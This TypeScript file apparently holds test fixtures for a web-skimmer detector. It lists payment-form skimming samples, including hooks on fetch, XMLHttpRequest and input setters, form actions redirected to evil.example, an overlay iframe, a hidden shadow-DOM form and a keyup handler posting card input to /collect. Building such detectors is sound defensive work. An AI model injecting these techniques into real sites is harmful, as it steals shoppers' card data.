import { onKey, type Skimmer, script, served } from "./skimmer.ts";

/** Ways to take what is typed. */
export const takers: readonly Skimmer[] = [
  {
    name: "fetch is replaced",
    body: script("var f=window.fetch;window.fetch=function(){return f.apply(this,arguments)};"),
    named: [["hook", "window.fetch"]],
  },
  {
    name: "fetch is a proxy",
    body: script("window.fetch=new Proxy(window.fetch,{apply:function(t,s,a){return Reflect.apply(t,s,a)}});"),
    named: [["hook", "window.fetch"]],
  },
  {
    name: "addEventListener is replaced",
    head: script(
      "var a=EventTarget.prototype.addEventListener;EventTarget.prototype.addEventListener=function(){return a.apply(this,arguments)};",
    ),
    named: [["hook", "addEventListener"]],
  },
  {
    name: "the field's value has a setter",
    body: script(
      "var d=Object.getOwnPropertyDescriptor(HTMLInputElement.prototype,'value');Object.defineProperty(HTMLInputElement.prototype,'value',{get:function(){return d.get.call(this)},set:function(v){d.set.call(this,v)},configurable:true});",
    ),
    named: [["hook", "value"]],
  },
  {
    name: "XMLHttpRequest is replaced",
    body: script("var s=XMLHttpRequest.prototype.send;XMLHttpRequest.prototype.send=function(){return s.apply(this,arguments)};"),
    named: [["hook", "XMLHttpRequest.prototype.send"]],
  },
  {
    name: "a form's action is changed",
    body: script("document.querySelector('form.place').action='https://evil.example/pay';"),
    named: [["form", "https://evil.example/pay"]],
  },
  {
    name: "a form's action is changed for a moment",
    body: script(
      "var f=document.querySelector('form.place'),a=f.action;f.action='https://evil.example/moment';setTimeout(function(){f.action=a},30000);",
    ),
    named: [["form", "https://evil.example/moment"]],
  },
  {
    name: "a button with an action of its own",
    body: '<button form="x" formaction="https://evil.example/button">Pay</button>',
    named: [["form", "https://evil.example/button"]],
  },
  {
    name: "a base that moves forms",
    alone: true,
    body: '<base href="https://evil.example/"><form action="pay" method="post"></form>',
    named: [["form", "https://evil.example/pay"]],
  },
  {
    name: "a form in a closed shadow tree",
    form: "redirect",
    body: script(
      "var d=document.createElement('div');document.body.append(d);d.attachShadow({mode:'closed'}).innerHTML='<form action=https://evil.example/shadow><input name=cc_number></form>';",
    ),
    named: [["form", "https://evil.example/shadow"]],
  },
  {
    name: "a frame laid over the fields",
    form: "frame",
    body: '<iframe src="https://evil.example/overlay" style="position:fixed;inset:0;width:400px;height:200px"></iframe>',
    files: served("evil.example/overlay", "<input name=cc_number>", "text/html"),
    named: [["frame", "https://evil.example/overlay"]],
  },
  {
    name: "fields of its own before a redirect",
    alone: true,
    form: "redirect",
    body: `<input id="cc_number" type="tel">${script(onKey("fetch('/collect',{method:'POST',body:v});"))}`,
    named: [
      ["card-read", "the card's field"],
      ["card-sent", "/collect"],
      ["inline-script", "keyup"],
    ],
  },
  {
    name: "a page that sends shoppers elsewhere",
    alone: true,
    body: `<meta http-equiv="refresh" content="60;url=https://evil.example/checkout">`,
    named: [["host", "https://evil.example"]],
  },
];
